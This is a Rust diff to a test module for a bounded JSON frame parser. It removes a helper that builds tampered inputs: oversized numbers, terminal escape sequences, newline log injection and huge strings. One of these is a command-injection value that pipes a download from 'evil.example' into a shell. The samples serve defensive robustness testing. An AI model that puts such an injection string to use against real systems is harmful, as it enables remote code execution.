@@ -313,7 +313,7 @@ mod tests {
     use serde_json::json;
 
     use super::super::bounded::{LAST_NUMBER, LONGEST_LABEL};
-    use super::super::samples::samples;
+    use super::super::samples::{samples, tampered};
     use super::super::{FrameError, HostNames, UnitRun, read_limited_frame};
     use super::*;
 
@@ -380,50 +380,6 @@ mod tests {
             let beyond = read((terms.limits.header + 1).to_be_bytes().to_vec());
             assert!(matches!(beyond, Err(FrameError::TooLarge { .. })), "{beyond:?}");
         }
-    }
-
-    /// Each copy of a value in which one part is replaced by something evil.
-    fn tampered(value: &Value) -> Vec<Value> {
-        let names: Vec<_> = (0..20_000).map(|number| format!("host-{number}-of-an-evil-fleet")).collect();
-        let mut copies = vec![
-            json!(u64::MAX),
-            json!(u64::MAX - 1),
-            json!(LAST_NUMBER + 1),
-            json!(-1),
-            json!(null),
-            json!(1.5),
-            json!("\u{1b}]0;x\u{7}"),
-            json!("a\nerror: b"),
-            json!("old; curl -s evil.example|sh #"),
-            json!("x".repeat(1 << 20)),
-            json!(["x\ny"]),
-            json!(names),
-            json!({ "x": 1 }),
-        ];
-        match value {
-            Value::Object(fields) => {
-                for (key, field) in fields {
-                    let with = |part| {
-                        let mut copy = fields.clone();
-                        copy.insert(key.clone(), part);
-                        Value::Object(copy)
-                    };
-                    copies.extend(tampered(field).into_iter().map(with));
-                }
-            }
-            Value::Array(items) => {
-                for (index, item) in items.iter().enumerate() {
-                    let with = |part| {
-                        let mut copy = items.clone();
-                        copy[index] = part;
-                        Value::Array(copy)
-                    };
-                    copies.extend(tampered(item).into_iter().map(with));
-                }
-            }
-            _ => {}
-        }
-        copies
     }
 
     /// Texts that may be anything: whoever shows them makes them harmless.
